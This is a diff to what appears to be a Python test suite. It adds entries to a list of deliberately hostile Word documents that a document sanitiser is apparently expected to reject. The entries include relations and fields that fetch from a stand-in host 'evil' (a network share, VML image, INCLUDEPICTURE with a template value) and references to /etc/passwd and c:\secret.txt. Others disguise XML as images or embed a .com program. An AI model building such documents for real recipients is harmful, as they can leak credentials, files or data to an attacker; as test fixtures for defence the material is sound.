@@ -108,6 +108,39 @@ HOSTILE: dict[str, Callable[[], bytes]] = {
     "link that carries a value": lambda: with_part(
         "word/_rels/header9.xml.rels", relation("hyperlink", "https://evil/?{{ nom }}")
     ),
+    "network share": lambda: with_part(
+        "word/_rels/header9.xml.rels", relation("image", "\\\\evil\\p.png", "")
+    ),
+    "file without slashes": lambda: with_part(
+        "word/_rels/header9.xml.rels", relation("image", "file:/etc/passwd", "")
+    ),
+    "linked VML picture": lambda: in_document(
+        in_body(
+            '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml">'
+            '<v:imagedata src="http://evil/p.png"/></v:shape></w:pict></w:r></w:p>'
+        )
+    ),
+    "XML under the name of a picture": lambda: changed(
+        word("x"),
+        {
+            "[Content_Types].xml": lambda data: data.replace(
+                b"</Types>",
+                b'<Override PartName="/word/media/image1.png" ContentType="application/vnd.'
+                b'openxmlformats-officedocument.wordprocessingml.header+xml"/></Types>',
+            )
+        },
+        {"word/media/image1.png": b"<!DOCTYPE x>"},
+    ),
+    "XML for a whole kind of files": lambda: changed(
+        word("x"),
+        {
+            "[Content_Types].xml": lambda data: data.replace(
+                b"</Types>", b'<Default Extension="png" ContentType="text/xml"/></Types>'
+            )
+        },
+    ),
+    "unknown kind of file": lambda: with_part("word/media/image1.svg"),
+    "program": lambda: with_part("word/media/run.com"),
     "INCLUDEPICTURE": lambda: in_document(field(' INCLUDEPICTURE "http://evil/?{{ nom }}" ')),
     "split INCLUDEPICTURE": lambda: in_document(field(" INCLUDE", 'PICTURE "http://evil/" ')),
     "INCLUDETEXT": lambda: in_document(field(' INCLUDETEXT "c:\\\\secret.txt" ')),
